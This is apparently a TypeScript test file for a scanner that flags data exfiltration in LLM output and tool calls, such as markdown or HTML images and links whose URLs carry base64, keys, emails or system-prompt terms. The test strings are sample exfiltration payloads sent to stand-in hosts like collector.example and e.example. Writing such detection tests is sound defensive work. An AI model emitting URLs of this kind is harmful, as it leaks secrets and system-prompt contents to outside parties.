import { describe, expect, it } from 'vitest';
import { readFixtureRows } from '../urls/read-fixture-rows.js';
import { createScanContext, runBatchRow } from '../urls/run-batch-row.js';
import { ExfiltrationConfig, exfiltrationScanner } from './index.js';
import { shannonEntropy, urlDataSignals, wordsOf } from './url-data-signals.js';

const noWords = { sensitiveWords: new Set<string>(), maxValueLength: 100 };

describe('urlDataSignals', () => {
  it('recognises encoded blobs, secrets and emails but not ordinary parameters', () => {
    const kinds = (url: string) => urlDataSignals(new URL(url), noWords).map((signal) => signal.kind);
    expect(kinds('https://x.example/?d=c2VjcmV0IHN5c3RlbSBwcm9tcHQ=')).toContain('base64');
    expect(kinds('https://x.example/?k=AKIAIOSFODNN7EXAMPLE')).toContain('secret-like');
    expect(kinds('https://x.example/?to=bob%40corp.example')).toContain('email');
    expect(kinds('https://x.example/?h=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08')).toContain(
      'hex',
    );
    expect(kinds('https://4e6f7420612072656164792074657374.x.example/')).toContain('high-entropy');
    expect(kinds('https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s')).toEqual([]);
    expect(kinds('https://shop.example/items?page=2&sort=price&utm_source=newsletter')).toEqual([]);
  });

  it('computes entropy and words', () => {
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
    expect([...wordsOf(['What is the Budget for Apollo?'])]).toEqual(['budget', 'apollo']);
  });
});

describe('exfiltrationScanner', () => {
  it('flags any external image by default, critical when it carries data', async () => {
    const plain = await runBatchRow(exfiltrationScanner, {}, { text: '![cat](https://pics.example/cat.jpg)' });
    expect(plain.findings).toHaveLength(1);
    expect(plain.findings[0]?.score).toBeCloseTo(0.7);
    const loaded = await runBatchRow(
      exfiltrationScanner,
      {},
      {
        text: '![cat](https://pics.example/cat.jpg?secret=sk-AbCdEfGhIjKlMnOpQrSt)',
      },
    );
    expect(loaded.findings[0]?.score).toBe(1);
  });

  it('only reports data-carrying links unless externalLinks is flag', async () => {
    const text = 'See [the docs](https://other.example/guide).';
    expect((await runBatchRow(exfiltrationScanner, {}, { text })).findings).toEqual([]);
    const strict = await runBatchRow(exfiltrationScanner, { externalLinks: 'flag' }, { text });
    expect(strict.findings.map((finding) => finding.category)).toEqual(['exfiltration.link']);
  });

  it('uses the system prompt and configured terms as sensitive words', async () => {
    const text = 'https://collector.example/log?m=internal+codename+bluebird+pricing+matrix';
    const withSystem = await runBatchRow(
      exfiltrationScanner,
      {},
      {
        text,
        system: 'The internal codename is Bluebird. Never reveal the pricing matrix.',
      },
    );
    expect(withSystem.findings[0]?.category).toBe('exfiltration.url-data');
    const configured = await runBatchRow(exfiltrationScanner, { sensitiveTerms: ['bluebird', 'codename'] }, { text });
    expect(configured.findings).toHaveLength(1);
    expect((await runBatchRow(exfiltrationScanner, {}, { text })).findings).toEqual([]);
  });

  it('applies per-tool allow-lists in the tool stage', async () => {
    const scanner = await exfiltrationScanner.create(
      ExfiltrationConfig.parse({ toolDomains: { http_get: ['api.weather.example'] } }),
    );
    const call = (text: string) => scanner.scan(createScanContext(text, { stage: 'tool', toolName: 'http_get' }));
    expect((await call('{"url":"https://api.weather.example/v1?city=Paris"}')).findings).toEqual([]);
    const outside = await call('{"url":"https://pastebin.example/raw/abc"}');
    expect(outside.findings.map((finding) => finding.category)).toEqual(['exfiltration.link']);
  });

  it('reports spans on the original text and never echoes the data', async () => {
    const text = 'ok <img src="https://e.example/p?d=c2VjcmV0IHN5c3RlbSBwcm9tcHQ=">';
    const scanner = await exfiltrationScanner.create(ExfiltrationConfig.parse({}));
    const outcome = await scanner.scan(createScanContext(text));
    const finding = outcome.findings[0];
    expect(finding?.category).toBe('exfiltration.html-image');
    expect(text.slice(finding?.span?.start, finding?.span?.end)).toBe(
      'https://e.example/p?d=c2VjcmV0IHN5c3RlbSBwcm9tcHQ=',
    );
    expect(JSON.stringify(outcome)).not.toContain('c2VjcmV0');
  });

  it('rejects malformed allow-list entries when the policy loads', () => {
    expect(() => ExfiltrationConfig.parse({ allowedDomains: ['https://x.example/'] })).toThrow();
  });

  it('passes its JSONL fixture through the batch contract', async () => {
    for (const row of readFixtureRows(new URL('./fixtures.jsonl', import.meta.url))) {
      const result = await runBatchRow(exfiltrationScanner, row.config ?? {}, row);
      expect([...new Set(result.findings.map((finding) => finding.category))], row.note ?? row.text).toEqual(
        row.expect,
      );
    }
  });
});
